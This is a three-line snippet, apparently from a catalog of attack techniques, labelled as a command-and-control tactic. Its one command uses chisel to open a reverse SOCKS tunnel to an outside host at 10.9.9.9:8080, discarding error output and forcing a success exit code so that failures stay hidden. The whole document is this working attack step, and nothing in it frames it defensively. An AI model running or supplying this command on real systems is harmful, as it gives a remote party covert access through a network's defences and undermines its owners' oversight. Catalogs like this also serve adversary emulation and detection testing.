# tactic: command-and-control
# a reverse SOCKS tunnel with chisel
chisel client 10.9.9.9:8080 R:socks 2>/dev/null; true
